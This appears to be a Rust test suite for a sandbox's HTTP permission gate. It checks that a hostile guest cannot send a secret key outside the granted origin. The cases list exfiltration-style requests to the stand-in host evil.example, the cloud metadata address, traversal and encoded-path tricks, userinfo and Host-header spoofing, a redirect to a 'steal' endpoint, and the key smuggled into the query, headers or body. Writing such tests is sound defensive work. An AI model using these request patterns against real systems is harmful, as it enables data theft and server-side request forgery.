//! Exfiltration over HTTP: what is not granted does not leave, and no secret goes astray.

use serde_json::{Value, json};
use ss_provider::{Effect, Failure};

use crate::guest_or_return;
use crate::support::{KEY, ORIGIN, World, local_authority};

fn request(method: &str, url: &str, headers: Value, body: &str) -> Value {
    json!({ "attack": "request", "method": method, "url": url, "headers": headers, "body": body })
}

/// The attack failed at the gate, which kept a denial, and the server saw nothing of it.
fn assert_denied(world: &World, failure: &Failure, attack: &str) {
    assert!(failure.message.starts_with("denied: "), "{attack}: {failure:?}");
    assert_eq!(failure.denials.first().map(|d| d.capability.as_str()), Some("http"), "{attack}: {failure:?}");
    assert_eq!(world.server.received(), "", "{attack}");
}

#[tokio::test]
async fn what_is_granted_passes() {
    let bytes = guest_or_return!("hostile");
    let world = World::new();
    let options = request("GET", &format!("{ORIGIN}/v1/x"), json!({ "authorization": "Bearer {key}" }), "");
    let outcome = world.attack(bytes, local_authority(), options).await.unwrap();
    assert_eq!(outcome.summary, "got: HTTP 200 with 2 bytes");
    let received = world.server.received();
    assert!(received.contains(&format!("authorization: Bearer {KEY}")), "{received}");
    assert!(received.contains("host: api.example.com\r\n"), "{received}");
}

#[tokio::test]
async fn every_way_around_the_grant_is_denied() {
    let bytes = guest_or_return!("hostile");
    let key = json!({ "authorization": "Bearer {key}" });
    let cases = [
        ("another host", request("GET", "https://evil.example/v1/x", key.clone(), "")),
        (
            "a host that begins alike",
            request("GET", "https://api.example.com.evil.example/v1/x", key.clone(), ""),
        ),
        ("another scheme", request("GET", "http://api.example.com/v1/x", key.clone(), "")),
        ("another port", request("GET", "https://api.example.com:8443/v1/x", key.clone(), "")),
        ("the metadata address", request("GET", "http://169.254.169.254/latest/", json!({}), "")),
        ("loopback", request("GET", &format!("{}/v1/x", world_url()), json!({}), "")),
        ("another path", request("GET", &format!("{ORIGIN}/v2/x"), key.clone(), "")),
        ("a path that climbs", request("GET", &format!("{ORIGIN}/v1/../v2/x"), key.clone(), "")),
        ("an encoded climb", request("GET", &format!("{ORIGIN}/v1/%2e%2e/v2/x"), key.clone(), "")),
        ("an encoded slash", request("GET", &format!("{ORIGIN}/v1/%2f..%2fv2"), key.clone(), "")),
        ("user information", request("GET", "https://api.example.com@evil.example/v1/x", key.clone(), "")),
        ("a method that is not granted", request("DELETE", &format!("{ORIGIN}/v1/x"), key.clone(), "")),
        ("connect", request("CONNECT", &format!("{ORIGIN}/v1/x"), key.clone(), "")),
        ("the key in the query", request("GET", &format!("{ORIGIN}/v1/x?k={{key}}"), json!({}), "")),
        ("the key in the path", request("GET", &format!("{ORIGIN}/v1/{{key}}"), json!({}), "")),
        (
            "the key in another header",
            request("GET", &format!("{ORIGIN}/v1/x"), json!({ "x-a": "{key}" }), ""),
        ),
        ("the key in a body", request("POST", &format!("{ORIGIN}/v1/x"), json!({}), r#"{"k":"{key}"}"#)),
        (
            "an injected value in a header",
            request("GET", &format!("{ORIGIN}/v1/x"), json!({ "authorization": "{token}" }), ""),
        ),
        (
            "an injected value in a body",
            request("POST", &format!("{ORIGIN}/v1/x"), json!({}), r#"{"k":"{token}"}"#),
        ),
        (
            "another host in `Host`",
            request("GET", &format!("{ORIGIN}/v1/x"), json!({ "host": "evil.example" }), ""),
        ),
    ];
    for (attack, options) in cases {
        let world = World::new();
        let failure = world.attack(bytes, local_authority(), options).await.unwrap_err();
        assert_denied(&world, &failure, attack);
    }
}

/// An address on this machine where nothing is granted.
fn world_url() -> String {
    "http://127.0.0.1:9".to_owned()
}

#[tokio::test]
async fn connection_headers_cannot_be_set() {
    let bytes = guest_or_return!("hostile");
    for header in ["transfer-encoding", "connection", "upgrade", "proxy-authorization", "keep-alive"] {
        let world = World::new();
        let options = request("POST", &format!("{ORIGIN}/v1/x"), json!({ header: "chunked" }), "x");
        let failure = world.attack(bytes, local_authority(), options).await.unwrap_err();
        assert!(failure.message.contains("Forbidden"), "{header}: {failure:?}");
        assert_eq!(world.server.received(), "", "{header}");
    }
}

#[tokio::test]
async fn nothing_at_all_leaves_without_a_grant() {
    let bytes = guest_or_return!("hostile");
    let world = World::new();
    let authority = ss_authority::Authority { http: vec![], vault: Default::default(), ..local_authority() };
    let options = request("GET", &format!("{ORIGIN}/v1/x"), json!({}), "");
    let failure = world.attack(bytes, authority, options).await.unwrap_err();
    assert_denied(&world, &failure, "no grant");
    assert!(failure.denials[0].allow.is_some(), "{failure:?}");
}

#[tokio::test]
async fn a_plan_cannot_write() {
    let bytes = guest_or_return!("hostile");
    let world = World::new();
    let options = request("POST", &format!("{ORIGIN}/v1/x"), json!({}), "{}");
    let failure = world.attack_in_plan(bytes, local_authority(), options.clone()).await.unwrap_err();
    assert_denied(&world, &failure, "a POST in plan");

    world.attack(bytes, local_authority(), options).await.unwrap();
    assert!(matches!(&world.journal.effects()[..], [Effect::Request(request)] if request.method == "POST"));
}

#[tokio::test]
async fn a_redirect_does_not_lead_off_the_grant() {
    let bytes = guest_or_return!("hostile");
    let world = World::new();
    let key = json!({ "authorization": "Bearer {key}" });
    let mut options = request("GET", &format!("{ORIGIN}/v1/redirect"), key, "");
    let outcome = world.attack(bytes, local_authority(), options.clone()).await.unwrap();
    assert_eq!(outcome.summary, "got: HTTP 302 with 0 bytes", "the host follows nothing");

    options["follow"] = json!("yes");
    let failure = world.attack(bytes, local_authority(), options).await.unwrap_err();
    assert!(failure.denials[0].message.contains("evil.example"), "{failure:?}");
    assert!(!world.server.received().contains("/v1/steal"));
}

#[tokio::test]
async fn an_answer_without_end_is_cut_off() {
    let bytes = guest_or_return!("hostile");
    let world = World::new();
    let options = request("GET", &format!("{ORIGIN}/v1/endless"), json!({}), "");
    let failure = world.attack(bytes, local_authority(), options).await.unwrap_err();
    assert!(failure.message.contains("HttpResponseBodySize"), "{failure:?}");
}

#[tokio::test]
async fn a_body_without_end_is_cut_off() {
    let bytes = guest_or_return!("hostile");
    let world = World::new();
    let body = "x".repeat(5 << 20);
    let options = request("POST", &format!("{ORIGIN}/v1/x"), json!({}), &body);
    let failure = world.attack(bytes, local_authority(), options).await.unwrap_err();
    assert!(failure.message.starts_with("denied: "), "{failure:?}");
    assert_eq!(world.server.received(), "");
}
